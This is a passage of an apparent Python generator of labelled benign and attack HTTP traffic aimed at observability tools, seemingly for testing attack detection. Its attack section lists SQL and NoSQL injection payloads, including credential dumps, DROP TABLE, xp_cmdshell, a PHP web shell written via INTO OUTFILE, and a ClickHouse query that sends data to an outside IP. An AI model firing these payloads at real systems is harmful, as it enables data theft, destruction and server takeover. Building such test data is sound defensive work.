            h = [["Host", "clickhouse.observability.svc:8123"], ["User-Agent", pick(["Grafana/11.3.1", "clickhouse-go/2.30.0 (lv:go/1.23.3; os:linux)"])],
                 ["X-ClickHouse-User", "grafana_ro"], ["X-ClickHouse-Key", hexid(20)]]
            if R.random() < 0.5:
                benign("clickhouse_get", "GET", "/?" + qs([("database", "logs"), ("query", sql), ("default_format", "JSON")]), h)
            else:
                benign("clickhouse_post", "POST", "/?database=logs&readonly=2", h + [["Content-Type", "text/plain; charset=utf-8"]], sql)
        elif k == 5:
            ds = pick([("loki", {"expr": pick(LOGQL), "queryType": "range", "maxLines": 1000}),
                       ("prometheus", {"expr": pick(PROMQL), "range": True, "instant": False, "interval": "", "legendFormat": "{{route}}"}),
                       ("grafana-postgresql-datasource", {"rawSql": "SELECT $__timeGroupAlias(created_at, $__interval), count(*) AS orders FROM orders WHERE $__timeFilter(created_at) AND status = 'paid' GROUP BY 1 ORDER BY 1",
                                                          "format": "time_series", "rawQuery": True, "editorMode": "code"}),
                       ("mysql", {"rawSql": "SELECT created_at AS time, total_cents / 100 AS value, country AS metric FROM orders WHERE $__timeFilter(created_at) AND country IN ($country) ORDER BY 1",
                                  "format": "time_series", "rawQuery": True}),
                       ("grafana-clickhouse-datasource", {"rawSql": pick(CLICKHOUSE_Q).replace(" FORMAT JSON", "").replace(" FORMAT JSONEachRow", ""), "queryType": "sql", "format": 1})])
            q_ = {"refId": "A", "datasource": {"type": ds[0], "uid": hexid(14)}, "intervalMs": 15000, "maxDataPoints": 1200}
            q_.update(ds[1])
            body = {"queries": [q_], "from": str(start * 1000), "to": str((start + 21600) * 1000)}
            benign("grafana_ds_query", "POST", "/api/ds/query?ds_type=%s&requestId=SQR%d" % (ds[0], R.randint(100, 999)), grafana_headers(), J(body))
        elif k == 6:
            path = pick(["/api/search?query=%s&type=dash-db&limit=50" % qp(pick(["checkout", "Kubernetes / Compute", "SLO – payments"])),
                         "/api/dashboards/uid/%s" % hexid(9), "/api/annotations?from=%d&to=%d&limit=100&matchAny=false&dashboardUID=%s" % (start * 1000, (start + 3600) * 1000, hexid(9)),
                         "/api/datasources/proxy/uid/%s/api/v1/label/__name__/values?start=%d&end=%d" % (hexid(14), start, start + 3600),
                         "/api/datasources/proxy/uid/%s/loki/api/v1/labels?start=%d" % (hexid(14), start * 10**9),
                         "/api/alertmanager/grafana/api/v2/alerts/groups?silenced=false&inhibited=false&filter=severity%3D%22critical%22",
                         "/api/prometheus/grafana/api/v1/rules?dashboard_uid=%s&panel_id=4" % hexid(9),
                         "/api/live/list", "/api/user/preferences", "/public/plugins/grafana-clock-panel/img/clock.svg"])
            benign("grafana_ui_get", "GET", path, grafana_headers(json_body=False))
        else:
            path, ua = pick([("/metrics", "Prometheus/2.55.1"), ("/metrics", "Alloy/v1.5.0 (linux; helm)"), ("/-/ready", "kube-probe/1.31"),
                             ("/api/v1/status/buildinfo", "Grafana/11.3.1"), ("/ready", "kube-probe/1.31"), ("/federate?match%5B%5D=%7Bjob%3D%22node%22%7D", "Prometheus/2.55.1"),
                             ("/api/v1/targets?state=active", "python-requests/2.32.3")])
            h = [["Host", pick(["otel-collector.observability.svc:8888", "prometheus.monitoring.svc:9090", "10.42.3.17:9100"])],
                 ["User-Agent", ua], ["Accept", "application/openmetrics-text;version=1.0.0,text/plain;version=0.0.4;q=0.5,*/*;q=0.1"]]
            benign("scrape_get", "GET", path, h)


# ---------------------------------------------------------------------------
# dev-content: engineers saving code, queries and config through dashboard
# and alerting APIs (exactly 50 records)
# ---------------------------------------------------------------------------

DEV_SQL = [
    "SELECT date_trunc('hour', created_at) AS time, count(*) FILTER (WHERE status = 'failed') AS failed, count(*) AS total\nFROM payments\nWHERE $__timeFilter(created_at)\nGROUP BY 1\nORDER BY 1",
    "SELECT 'api' AS source, count(*) AS errors FROM api_errors WHERE $__timeFilter(ts)\nUNION ALL\nSELECT 'worker' AS source, count(*) FROM worker_errors WHERE $__timeFilter(ts)",
    "SELECT table_schema, ROUND(SUM(data_length + index_length) / 1024 / 1024, 1) AS size_mb\nFROM information_schema.tables\nGROUP BY table_schema\nORDER BY size_mb DESC",
    "SELECT pid, now() - query_start AS duration, usename, left(query, 120) AS query\nFROM pg_stat_activity\nWHERE state <> 'idle' AND now() - query_start > interval '30 seconds'\nORDER BY duration DESC",
    "SELECT TOP 20 qs.total_elapsed_time / qs.execution_count AS avg_us, SUBSTRING(st.text, 1, 200) AS query_text\nFROM sys.dm_exec_query_stats AS qs\nCROSS APPLY sys.dm_exec_sql_text(qs.sql_handle) AS st\nORDER BY avg_us DESC",
    "SELECT CASE WHEN latency_ms < 100 THEN 'fast' WHEN latency_ms < 1000 THEN 'ok' ELSE 'slow' END AS bucket, count(*)\nFROM requests\nWHERE $__timeFilter(ts) AND path NOT LIKE '/health%'\nGROUP BY 1",
    "SELECT u.country, count(DISTINCT o.id) AS orders, sum(o.total_cents) / 100.0 AS revenue\nFROM orders o JOIN users u ON u.id = o.user_id\nWHERE o.created_at > now() - interval '30 days' AND u.email NOT LIKE '%@example.com'\nGROUP BY u.country ORDER BY orders DESC LIMIT 20",
    "SELECT $__timeGroup(ts, '5m') AS time, avg(cpu) AS cpu, host AS metric\nFROM node_stats\nWHERE $__timeFilter(ts) AND host IN (${hosts:sqlstring})\nGROUP BY 1, host\nORDER BY 1",
]

DEV_SHELL = [
    "kubectl -n prod logs deploy/checkout-api --since=15m | grep -E 'ERROR|WARN' | tail -n 50",
    "curl -s 'http://localhost:9090/api/v1/query?query=up' | jq '.data.result[] | {job: .metric.job, up: .value[1]}'",
    "for pod in $(kubectl get pods -n prod -l app=checkout-api -o name); do\n  kubectl exec -n prod \"$pod\" -- cat /proc/loadavg\ndone",
    "journalctl -u nginx --since '1 hour ago' | grep -c 'upstream timed out'",
    "sudo systemctl restart promtail && tail -f /var/log/promtail.log",
    "find /var/log/app -name '*.gz' -mtime +30 -delete",
    "psql \"$DATABASE_URL\" -c \"SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE state = 'active' AND now() - query_start > interval '10 min';\"",
    "PGPASSWORD=$(kubectl get secret db-ro -o jsonpath='{.data.password}' | base64 -d) psql -h db-replica -U ro shop",
]

DEV_PHP = """<?php
// repro for INC-4821: PDO throws on missing sku_code column
$pdo = new PDO($dsn, $user, $pass, [PDO::ATTR_ERRMODE => PDO::ERRMODE_EXCEPTION]);
$stmt = $pdo->prepare('SELECT p.id, p.name FROM products p WHERE p.category_id = :cat');
$stmt->execute(['cat' => (int) $_GET['cat']]);
foreach ($stmt->fetchAll(PDO::FETCH_ASSOC) as $row) {
    echo htmlspecialchars($row['name'], ENT_QUOTES, 'UTF-8'), "\\n";
}"""

DEV_DOCKERFILE = [
    "FROM grafana/alloy:v1.5.0\nCOPY config.alloy /etc/alloy/config.alloy\nUSER 473\nENTRYPOINT [\"/bin/alloy\", \"run\", \"/etc/alloy/config.alloy\"]",
    "FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\n    && rm -rf /var/lib/apt/lists/*\nCOPY requirements.txt .\nRUN pip install --no-cache-dir -r requirements.txt\nHEALTHCHECK CMD curl -fsS http://localhost:8000/healthz || exit 1\nCMD [\"gunicorn\", \"app.wsgi:application\", \"--bind\", \"0.0.0.0:8000\"]",
]

DEV_YAML_COLLECTOR = """receivers:
  otlp:
    protocols:
      http:
        endpoint: 0.0.0.0:4318
  filelog:
    include: [/var/log/pods/*/*/*.log]
    operators:
      - type: regex_parser
        regex: '^(?P<time>[^ ]+) (?P<stream>stdout|stderr) (?P<flags>[^ ]*) (?P<log>.*)$'
processors:
  batch: {}
  attributes/scrub:
    actions:
      - key: db.statement
        action: hash
      - key: http.request.header.authorization
        action: delete
exporters:
  otlphttp:
    endpoint: https://otlp.telemetry.acme-corp.de
service:
  pipelines:
    traces: {receivers: [otlp], processors: [attributes/scrub, batch], exporters: [otlphttp]}"""

KQL_QUERIES = [
    'http.request.method : "POST" and url.path : /api/v2/orders* and not http.response.status_code : 200',
    'process.command_line : *curl* and host.os.type : "linux" and not user.name : "root"',
    'message : "SQLSTATE[42S22]" or error.message : *Unknown column*',
    'event.dataset : "nginx.access" and user_agent.original : *python-requests*',
]

AZ_KQL = [
    "AppRequests\n| where TimeGenerated > ago(1h) and Success == false\n| summarize failures = count() by bin(TimeGenerated, 5m), OperationName\n| order by failures desc",
    "AppExceptions\n| where TimeGenerated > ago(1d)\n| summarize count() by ProblemId, OuterMessage\n| top 10 by count_",
    "ContainerLogV2\n| where PodNamespace == 'prod' and LogMessage has 'OOMKilled'\n| project TimeGenerated, PodName, LogMessage",
]

GO_TEMPLATES = [
    '{{ define "slack.title" }}[{{ .Status | toUpper }}{{ if eq .Status "firing" }}:{{ .Alerts.Firing | len }}{{ end }}] {{ .CommonLabels.alertname }}{{ end }}',
    '{{ define "slack.body" }}{{ range .Alerts }}*{{ .Labels.severity }}* {{ .Annotations.summary }}\n{{ if .Annotations.runbook_url }}Runbook: {{ .Annotations.runbook_url }}{{ end }}\n{{ end }}{{ end }}',
    '{{ define "email.subject" }}{{ len .Alerts.Firing }} firing / {{ len .Alerts.Resolved }} resolved – {{ .GroupLabels.SortedPairs.Values | join " " }}{{ end }}',
    '{{ define "teams.text" }}{{ range .Alerts.Firing }}- {{ index .Labels "instance" }}: {{ .Annotations.description }} (value {{ .Values.B | printf "%.2f" }}){{ end }}{{ end }}',
]


def dev_dashboard(i):
    panels = []
    kind = i % 5
    if kind in (0, 1):
        panels.append({"id": 1, "type": "timeseries", "title": "Payment failures vs total",
                       "datasource": {"type": "grafana-postgresql-datasource", "uid": hexid(14)},
                       "targets": [{"refId": "A", "rawSql": DEV_SQL[i % len(DEV_SQL)], "format": "time_series", "rawQuery": True, "editorMode": "code"}],
                       "gridPos": {"h": 8, "w": 12, "x": 0, "y": 0}})
    if kind in (1, 2):
        panels.append({"id": 2, "type": "timeseries", "title": "5xx by route",
                       "datasource": {"type": "prometheus", "uid": hexid(14)},
                       "targets": [{"refId": "A", "expr": PROMQL[i % len(PROMQL)], "legendFormat": "{{route}}"}],
                       "fieldConfig": {"defaults": {"unit": "reqps", "thresholds": {"mode": "absolute", "steps": [{"color": "green", "value": None}, {"color": "red", "value": 5}]}}}})
    if kind in (2, 3):
        panels.append({"id": 3, "type": "logs", "title": "Errors (Loki)", "datasource": {"type": "loki", "uid": hexid(14)},
                       "targets": [{"refId": "A", "expr": LOGQL[i % len(LOGQL)]}]})
    if kind in (3, 4):
        md = pick(["## On-call notes\n\nIf the error rate spikes, check the slow query log first:\n\n```bash\n%s\n```\n\nThen look at locks:\n\n```sql\n%s\n```" % (pick(DEV_SHELL), pick(DEV_SQL)),
                   "### How this is deployed\n\n```dockerfile\n%s\n```" % pick(DEV_DOCKERFILE),
                   "### Reproduce INC-4821\n\n```php\n%s\n```" % DEV_PHP])
        panels.append({"id": 4, "type": "text", "title": "Runbook", "options": {"mode": "markdown", "content": md}})
    dash = {"dashboard": {"id": None, "uid": hexid(9), "title": pick(["Checkout – SLOs", "Payments overview", "DB health (Postgres)", "Nginx edge", "Ops runbook"]),
                          "tags": ["team-checkout", "prod"], "timezone": "browser", "schemaVersion": 39, "version": R.randint(1, 80),
                          "templating": {"list": [{"name": "hosts", "type": "query", "query": "label_values(up{job=\"node\"}, instance)", "multi": True, "includeAll": True}]},
                          "panels": panels, "time": {"from": "now-6h", "to": "now"}},
            "folderUid": hexid(9), "message": pick(["add runbook panel", "fix legend", "switch to rawSql", ""]), "overwrite": False}
    dev("grafana_dashboard", "POST", "/api/dashboards/db", grafana_headers(), J(dash))


def dev_annotation(i):
    texts = [
        "Rolled back checkout-api to 2026.12.3: `kubectl rollout undo deployment/checkout-api -n prod`",
        "Hotfix applied manually:\n```sql\nUPDATE orders SET status = 'paid' WHERE id IN (991204, 991207) AND status = 'pending';\n```",
        "Increased pool size: `spring.datasource.hikari.maximum-pool-size=40` (was 20)",
        "DB failover drill. Ran `patronictl switchover --master db-0 --candidate db-1 --force`",
        "Cleared disk on web-02: `sudo du -sh /var/log/* | sort -h | tail` then `truncate -s 0 /var/log/nginx/access.log.1`",
        "Deployed collector config with new scrub rule for `db.statement`; see MR !4821",
        "Load test started: `k6 run -e BASE_URL=https://staging.example.com --vus 200 --duration 15m checkout.js`",
        "Restarted promtail after regex change: `^(?P<ip>\\S+) \\S+ \\S+ \\[(?P<ts>[^\\]]+)\\] \"(?P<method>\\S+) (?P<path>\\S+)`",
    ]
    t0 = ts_ms()
    body = {"dashboardUID": hexid(9), "panelId": R.randint(1, 12), "time": t0, "timeEnd": t0 + R.randint(60, 3600) * 1000,
            "tags": pick([["deploy"], ["incident", "INC-4821"], ["maintenance"]]), "text": texts[i % len(texts)]}
    dev("grafana_annotation", "POST", "/api/annotations", grafana_headers(), J(body))


def dev_kibana(i):
    k = i % 3
    h = [["Host", "kibana.example.net"], ["User-Agent", pick(BROWSER_UAS)], ["Content-Type", "application/json"], ["kbn-xsrf", "true"],
         ["Accept", "*/*"], ["Cookie", "sid=Fe26.2**%s" % hexid(40)], ["x-elastic-internal-origin", "Kibana"]]
    if k == 0:
        body = {"attributes": {"title": pick(["POST errors on orders", "curl from containers", "Unknown column errors"]), "columns": ["message", "host.name"],
                               "sort": [["@timestamp", "desc"]],
                               "kibanaSavedObjectMeta": {"searchSourceJSON": J({"query": {"query": KQL_QUERIES[i % len(KQL_QUERIES)], "language": "kuery"},
                                                                                "filter": [], "indexRefName": "kibanaSavedObjectMeta.searchSourceJSON.index"})}}}
        dev("kibana_saved_object", "POST", "/api/saved_objects/search", h, J(body))
    elif k == 1:
        vis = {"title": "Requests by status", "type": "line", "params": {"addTooltip": True},
               "aggs": [{"id": "1", "type": "count", "schema": "metric"},
                        {"id": "2", "type": "date_histogram", "schema": "segment", "params": {"field": "@timestamp", "interval": "auto"}}]}
        body = {"attributes": {"title": "Requests by status", "visState": J(vis), "uiStateJSON": "{}",
                               "kibanaSavedObjectMeta": {"searchSourceJSON": J({"query": {"query": "http.response.status_code >= 500", "language": "kuery"}})}}}
        dev("kibana_saved_object", "POST", "/api/saved_objects/visualization", h, J(body))
    else:
        body = {"attributes": {"title": "esql: slow endpoints",
                               "kibanaSavedObjectMeta": {"searchSourceJSON": J({"query": {"esql": "FROM logs-* | WHERE http.response.status_code >= 500 | STATS c = COUNT(*) BY url.path | SORT c DESC | LIMIT 20"}})}}}
        dev("kibana_saved_object", "POST", "/api/saved_objects/search", h, J(body))


def dev_alert_rule(i):
    expr = PROMQL[i % len(PROMQL)]
    body = {"folderUID": hexid(9), "ruleGroup": "checkout-slo", "title": pick(["High 5xx rate", "Pods restarting", "Disk filling up", "Exporter down"]),
            "condition": "C", "for": "5m", "noDataState": "NoData", "execErrState": "Error",
            "data": [{"refId": "A", "relativeTimeRange": {"from": 600, "to": 0}, "datasourceUid": hexid(14), "model": {"expr": expr, "refId": "A"}},
                     {"refId": "B", "datasourceUid": "__expr__", "model": {"type": "reduce", "expression": "A", "reducer": "last", "refId": "B"}},
                     {"refId": "C", "datasourceUid": "__expr__", "model": {"type": "math", "expression": "$B > 0.05", "refId": "C"}}],
            "labels": {"severity": pick(["critical", "warning"]), "team": "checkout"},
            "annotations": {"summary": "{{ $labels.instance }} error rate is {{ humanizePercentage $values.B.Value }}",
                            "description": "Route {{ index $labels \"route\" }} has returned 5xx for 5m. Check `kubectl -n prod logs deploy/checkout-api --since=10m`.",
                            "runbook_url": "https://wiki.example.net/runbooks/checkout#5xx"}}
    dev("alert_rule", "POST", "/api/v1/provisioning/alert-rules", grafana_headers() + [["X-Disable-Provenance", "true"]], J(body))


def dev_ruler_yaml(i):
    rules = []
    for j in range(R.randint(1, 3)):
        if i % 2 == 0:
            rules.append("  - alert: %s\n    expr: %s\n    for: 10m\n    labels:\n      severity: %s\n    annotations:\n      summary: \"{{ $labels.instance }} on {{ $labels.job }}\"\n      description: \"Value is {{ $value | humanize }} (threshold {{ with query \\\"scalar(slo_threshold)\\\" }}{{ . | first | value }}{{ end }})\"" % (
                pick(["HighErrorRate", "PodCrashLooping", "DiskWillFill", "TargetDown"]), JP(PROMQL[(i + j) % len(PROMQL)]), pick(["page", "ticket"])))
        else:
            rules.append("  - alert: %s\n    expr: |\n      sum by (app) (rate(%s [5m])) > 10\n    for: 5m\n    annotations:\n      summary: \"{{ $labels.app }} logs {{ printf \\\"%%.1f\\\" $value }} errors/s\"" % (
                pick(["LogErrorBurst", "FailedLogins"]), LOGQL[(i + j) % 2] if (i + j) % 2 == 0 else '{job="nginx"} |= "Failed password"'))
    yaml = "name: %s\ninterval: 1m\nrules:\n%s\n" % (pick(["checkout.rules", "node.rules", "logs.rules"]), "\n".join(rules))
    h = [["Host", "mimir.example.net" if i % 2 == 0 else "loki-ruler.monitoring.svc:3100"], ["User-Agent", pick(["mimirtool/2.14.2", "cortextool/0.11.1"]) if i % 2 == 0 else "lokitool/3.3.0"],
         ["Content-Type", "application/yaml"], ["X-Scope-OrgID", "tenant-shop"], ["Authorization", "Basic " + b64("tenant-shop:" + hexid(16))]]
    dev("ruler_yaml", "POST", "/prometheus/config/v1/rules/%s" % pick(["checkout", "platform", "edge"]) if i % 2 == 0 else "/loki/api/v1/rules/%s" % pick(["checkout", "security"]), h, yaml)


def dev_notification_template(i):
    body = {"name": pick(["slack-checkout", "teams-ops", "email-default", "pagerduty-critical"]), "template": GO_TEMPLATES[i % len(GO_TEMPLATES)], "version": ""}
    dev("notification_template", "PUT", "/api/v1/provisioning/templates/%s" % body["name"], grafana_headers(), J(body))


def dev_query_history(i):
    if i % 2 == 0:
        q_ = {"refId": "A", "datasource": {"type": "grafana-azure-monitor-datasource", "uid": hexid(14)}, "queryType": "Azure Log Analytics",
              "azureLogAnalytics": {"query": AZ_KQL[i % len(AZ_KQL)], "resultFormat": "table"}}
    else:
        q_ = {"refId": "A", "datasource": {"type": "grafana-clickhouse-datasource", "uid": hexid(14)},
              "rawSql": "SELECT ServiceName, quantile(0.99)(Duration) / 1e6 AS p99_ms\nFROM otel.otel_traces\nWHERE Timestamp > now() - INTERVAL 1 HOUR AND SpanAttributes['db.system'] = 'postgresql'\nGROUP BY ServiceName\nORDER BY p99_ms DESC"}
    body = {"dataSourceUid": q_["datasource"]["uid"], "queries": [q_]}
    dev("query_history", "POST", "/api/query-history", grafana_headers(), J(body))


def dev_ingest_pipeline(i):
    body = {"description": "Parse nginx access logs",
            "processors": [{"grok": {"field": "message", "patterns": ["%{IPORHOST:source.ip} - %{DATA:user.name} \\[%{HTTPDATE:ts}\\] \"%{WORD:http.request.method} %{DATA:url.original} HTTP/%{NUMBER:http.version}\" %{NUMBER:http.response.status_code:int} %{NUMBER:http.response.body.bytes:long} \"%{DATA:http.request.referrer}\" \"%{DATA:user_agent.original}\""]}},
                           {"date": {"field": "ts", "formats": ["dd/MMM/yyyy:HH:mm:ss Z"]}},
                           {"script": {"lang": "painless", "source": "if (ctx.url?.original != null && ctx.url.original.contains('?')) { ctx.url.query = ctx.url.original.substring(ctx.url.original.indexOf('?') + 1); }"}},
                           {"remove": {"field": ["ts", "message"], "ignore_missing": True}}]}
    if i == 1:
        body["processors"].insert(0, {"dissect": {"field": "message", "pattern": "%{ts} %{level} [%{thread}] %{logger} - %{msg}"}})
    if i == 2:
        body["description"] = "Collector config snapshot (for reference)"
        body["_meta"] = {"otel_collector_yaml": DEV_YAML_COLLECTOR}
    h = [["Host", "es-logs.prod.example.net:9200"], ["User-Agent", pick(BROWSER_UAS)], ["Content-Type", "application/json"], ["kbn-xsrf", "true"]]
    dev("ingest_pipeline", "PUT", "/_ingest/pipeline/%s" % pick(["nginx-access", "app-logs", "k8s-containers"]), h, J(body))


def dev_scripted_field(i):
    scripts = ["if (doc['http.response.body.bytes'].size() == 0) { return 0; } return doc['http.response.body.bytes'].value / 1024.0;",
               "def p = doc['url.path'].value; return p.startsWith('/api/') ? p.splitOnToken('/')[2] : 'web';",
               "emit(doc['event.duration'].value / 1000000L);"]
    body = {"field": {"name": pick(["kb", "api_version", "duration_ms"]), "type": "number" if i != 1 else "string",
                      "script": scripts[i % len(scripts)], "lang": "painless", "scripted": True}}
    h = [["Host", "kibana.example.net"], ["User-Agent", pick(BROWSER_UAS)], ["Content-Type", "application/json"], ["kbn-xsrf", "true"],
         ["Cookie", "sid=Fe26.2**%s" % hexid(40)]]
    dev("scripted_field", "POST", "/api/index_patterns/index_pattern/%s/scripted_field" % hexid(8), h, J(body))


def gen_dev_content():
    for i in range(10):
        dev_dashboard(i)
    for i in range(8):
        dev_annotation(i)
    for i in range(7):
        dev_kibana(i)
    for i in range(6):
        dev_alert_rule(i)
    for i in range(5):
        dev_ruler_yaml(i)
    for i in range(4):
        dev_notification_template(i)
    for i in range(4):
        dev_query_history(i)
    for i in range(3):
        dev_ingest_pipeline(i)
    for i in range(3):
        dev_scripted_field(i)


# ===========================================================================
# ATTACKS
# ===========================================================================

ATTACKER_UAS = [
    "python-requests/2.31.0", "curl/7.88.1", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "okhttp/4.9.3", "Wget/1.21.3", "axios/1.6.7",
]


def ahdrs(host, ua=None, ct=None, extra=None):
    h = [["Host", host], ["User-Agent", ua or pick(ATTACKER_UAS)], ["Accept", "*/*"]]
    if extra:
        h += extra
    if ct:
        h.append(["Content-Type", ct])
    return h


def double_enc(s):
    return q(q(s))


def mixed_case(s):
    out = []
    for ch in s:
        out.append(ch.upper() if R.random() < 0.5 else ch.lower())
    return "".join(out)


def json_u_escape(s, chars="'\"<>$"):
    """JSON text of s with selected characters written as \\uXXXX escapes."""
    body = json.dumps(s, ensure_ascii=False)[1:-1]
    for c in chars:
        if c == '"':
            body = body.replace('\\"', "\\u0022")
        else:
            body = body.replace(c, "\\u%04x" % ord(c))
    return '"' + body + '"'


# --------------------------------------------------------------------------- sqli

SQLI_PAYLOADS = [
    ("union", "checkout-api' UNION SELECT username, password_hash, NULL FROM users--"),
    ("union", "x' UNION ALL SELECT table_name, column_name, NULL FROM information_schema.columns-- -"),
    ("union_comment", "1'/**/UnIoN/**/SeLeCt/**/concat(user(),0x3a,database()),2,3#"),
    ("bool", "payments' OR '1'='1"),
    ("bool", "error' OR 1=1-- -"),
    ("bool_blind", "checkout-api' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- "),
    ("bool_blind", "1 AND ASCII(SUBSTR((SELECT current_user),1,1))>64"),
    ("time", "checkout-api' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"),
    ("time", "x'; SELECT pg_sleep(10)--"),
    ("time", "1); WAITFOR DELAY '0:0:7'--"),
    ("time", "1 AND 4821=BENCHMARK(5000000,MD5(0x41))"),
    ("error", "1' AND extractvalue(1,concat(0x7e,(SELECT version()),0x7e))-- -"),
    ("error", "1' AND updatexml(1,concat(0x3a,(SELECT group_concat(schema_name) FROM information_schema.schemata)),1)#"),
    ("error", "1' AND 1=CAST((SELECT string_agg(usename||':'||passwd,',') FROM pg_shadow) AS int)--"),
    ("stacked", "x'; DROP TABLE logs_events;--"),
    ("stacked", "x'; INSERT INTO users (email, role) VALUES ('ops@evil.example','admin');--"),
    ("stacked_mssql", "1; EXEC master..xp_cmdshell 'whoami'--"),
    ("clickhouse", "checkout-api' UNION ALL SELECT name, engine FROM system.tables-- "),
    ("clickhouse", "' OR 1=1 UNION ALL SELECT user, toString(auth_type) FROM system.users FORMAT JSON--"),
    ("order_by", "(CASE WHEN (SELECT substring(password,1,1) FROM users LIMIT 1)='a' THEN timestamp ELSE level END)"),
    ("order_by", "timestamp,(SELECT 1 FROM pg_sleep(5))"),
    ("oracle", "x' UNION SELECT banner, NULL FROM v$version--"),
    ("sqlite", "x' UNION SELECT sql, name FROM sqlite_master--"),
    ("into_outfile", "1' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/c.php'-- -"),
    ("having", "1' GROUP BY level HAVING 1=1--"),
]


def gen_sqli():
    contexts = [
        ("log_search_get", lambda p: ("GET", "/api/logs/search?" + qs([("service", p), ("level", "error"), ("from", "now-1h"), ("limit", "200")]), None, None)),
        ("trace_search_get", lambda p: ("GET", "/api/traces/search?service=checkout-api&operation=" + q(p) + "&limit=20", None, None)),
        ("ds_proxy", lambda p: ("GET", "/api/datasources/proxy/uid/P3F8A9C1D2E/search?q=" + qp(p) + "&from=1796428800000", None, None)),
        ("clickhouse_filter", lambda p: ("GET", "/api/v1/logs?" + qs([("filter", "service='%s'" % p), ("start", "1796428800")]), None, None)),
        ("json_filter", lambda p: ("POST", "/api/v1/logs/query", "application/json", J({"filters": {"service": p, "level": ["error", "warn"]}, "range": {"from": "now-6h", "to": "now"}, "limit": 500}))),
        ("order_param", lambda p: ("GET", "/api/v1/events?service=payments&sort=" + q(p) + "&dir=desc", None, None)),
        ("issue_query", lambda p: ("GET", "/api/0/organizations/acme/issues/?" + qs([("project", "4821"), ("query", "is:unresolved environment:" + p), ("statsPeriod", "24h")]), None, None)),
        ("form_search", lambda p: ("POST", "/logs/search.php", "application/x-www-form-urlencoded", qs([("host", p), ("facility", "auth"), ("submit", "Search")]))),
        ("header_tenant", lambda p: ("GET", "/api/v1/dashboards?limit=50", None, None, [["X-Tenant-ID", p]])),
        ("span_attr", lambda p: ("POST", "/api/v1/spans/lookup", "application/json", J({"traceId": hexid(32), "attribute": "db.system", "value": p}))),
    ]
    hosts = ["logs.example.net", "observability.acme-corp.de", "grafana.example.org", "errors.example.org", "monitor.example.io"]
    for i, (slug, payload) in enumerate(SQLI_PAYLOADS):
        ctx_slug, fn = contexts[i % len(contexts)]
        p = payload
        res = fn(p)
        method, uri, ct, body = res[:4]
        extra = res[4] if len(res) > 4 else None
        attack("sqli", "%s_%s" % (ctx_slug, slug), method, uri, ahdrs(pick(hosts), ct=ct, extra=extra), body)
    # encoded variants
    enc = [
        ("double_enc", "GET", "/api/logs/search?service=" + double_enc("x' UNION SELECT password FROM users--") + "&level=error", None, None),
        ("double_enc", "GET", "/api/traces/search?operation=" + double_enc("1' OR '1'='1' -- ") + "&service=payments", None, None),
        ("json_unicode", "POST", "/api/v1/logs/query", "application/json",
         '{"filters":{"service":%s},"limit":100}' % json_u_escape("x' UNION SELECT email, password FROM users-- ")),
        ("json_unicode", "POST", "/api/v1/metrics/query", "application/json",
         '{"metric":"http_requests_total","label":%s}' % json_u_escape("route' AND SLEEP(5)#")),
        ("mixed_case_comment", "GET", "/api/v1/events?service=" + q("x'/*!50000uNiOn*/ /*!50000SeLeCt*/ user_login,user_pass FROM wp_users-- -"), None, None),
        ("hex_encoded", "GET", "/api/logs/search?service=" + q("x' UNION SELECT 0x61646d696e, load_file(0x2f6574632f706173737764)-- -"), None, None),
        ("plus_spaces", "GET", "/api/logs/search?service=x%27+or+1%3D1+union+select+1%2Cversion%28%29%2C3--+-&level=error", None, None),
        ("cookie", "GET", "/api/v1/dashboards/home", None, None),
        ("clickhouse_url", "GET", "/?query=" + q("SELECT * FROM logs.app WHERE service = 'x' UNION ALL SELECT * FROM url('http://203.0.113.66/exfil?d='||(SELECT groupArray(name) FROM system.tables), 'CSV', 'a String')--'"), None, None),
        ("grafana_ds_query", "POST", "/api/ds/query", "application/json",
         J({"queries": [{"refId": "A", "datasource": {"type": "grafana-simple-json-datasource", "uid": "Qm9iYnk"},
                         "target": "orders' UNION SELECT login, password FROM user--", "type": "table"}], "from": "now-1h", "to": "now"})),
    ]
    for slug, method, uri, ct, body in enc:
        extra = None
        if slug == "cookie":
            extra = [["Cookie", "grafana_session=%s; org_filter=1' UNION SELECT login,password,email FROM user--" % hexid(32)]]
        host = "clickhouse.observability.svc:8123" if slug == "clickhouse_url" else pick(hosts)
        attack("sqli", slug, method, uri, ahdrs(host, ct=ct, extra=extra), body)


# --------------------------------------------------------------------------- nosqli

def gen_nosqli():
    host = lambda: pick(["logs.example.net", "observability.acme-corp.de", "statuspage.example.io", "graylog.example.net"])
    cases = [
        ("login_ne", "POST", "/api/login", "application/json", J({"username": "admin", "password": {"$ne": None}})),
        ("login_gt", "POST", "/api/v1/auth/login", "application/json", J({"username": {"$gt": ""}, "password": {"$gt": ""}})),
        ("login_regex", "POST", "/api/login", "application/json", J({"username": {"$regex": "^adm"}, "password": {"$ne": "x"}})),
        ("qs_ne", "GET", "/api/v1/logs?service%5B%24ne%5D=none&level%5B%24ne%5D=debug&limit=1000", None, None),
        ("qs_regex", "GET", "/api/users?username[$regex]=.*&password[$regex]=^a.*", None, None),
        ("form_ne", "POST", "/login", "application/x-www-form-urlencoded", "username=admin&password%5B%24ne%5D=wrong"),
        ("where_sleep", "POST", "/api/v1/logs/query", "application/json", J({"filter": {"$where": "sleep(5000) || true"}, "limit": 10})),
        ("where_match", "POST", "/api/v1/events/search", "application/json", J({"query": {"$where": "this.password.match(/^a.*/) != null"}})),
        ("function_js", "POST", "/api/v1/logs/aggregate", "application/json",
         J({"pipeline": [{"$match": {"$expr": {"$function": {"body": "function() { var x = new Date(); while (new Date() - x < 5000) {} return true; }", "args": [], "lang": "js"}}}}]})),
        ("lookup_users", "POST", "/api/v1/logs/aggregate", "application/json",
         J({"pipeline": [{"$match": {"service": "checkout-api"}}, {"$lookup": {"from": "users", "pipeline": [{"$project": {"email": 1, "passwordHash": 1}}], "as": "leak"}}]})),
        ("or_injection", "POST", "/api/v1/alerts/search", "application/json", J({"owner": "bob", "$or": [{"owner": {"$exists": True}}, {"isAdmin": True}]})),
